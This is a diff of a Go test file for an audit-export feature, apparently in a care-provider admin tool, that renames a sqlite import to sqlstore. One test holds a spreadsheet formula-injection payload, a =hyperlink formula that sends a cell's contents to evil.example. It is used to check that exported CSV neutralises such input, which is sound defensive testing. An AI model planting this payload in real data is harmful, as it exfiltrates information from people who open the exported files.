@@ -14,7 +14,7 @@ import (
 
 	"github.com/regio-mgz/mgz"
 	"github.com/regio-mgz/mgz/service"
-	"github.com/regio-mgz/mgz/sqlite"
+	"github.com/regio-mgz/mgz/sqlstore"
 )
 
 // adminDB is a database with an RHO, a care provider and some audited activity.
@@ -22,7 +22,7 @@ func adminDB(t *testing.T) (string, map[string]string, mgz.Organisation) {
 	t.Helper()
 	dbPath := filepath.Join(t.TempDir(), "mgz.db")
 	stewardToken(t, dbPath) // the RHO, a user (audited) and a token (audited)
-	db, err := sqlite.Open(context.Background(), dbPath)
+	db, err := sqlstore.Open(context.Background(), dbPath)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -158,7 +158,7 @@ func TestAuditExportWritesCSVAndJSONLinesWithFilters(t *testing.T) {
 func TestAuditExportNeutralisesAFormulaTypedAtTheLogin(t *testing.T) {
 	dbPath, vars, _ := adminDB(t)
 	typed := `=hyperlink("https://evil.example/?d="&a1,"klik")@a.nl`
-	db, err := sqlite.Open(context.Background(), dbPath)
+	db, err := sqlstore.Open(context.Background(), dbPath)
 	if err != nil {
 		t.Fatal(err)
 	}
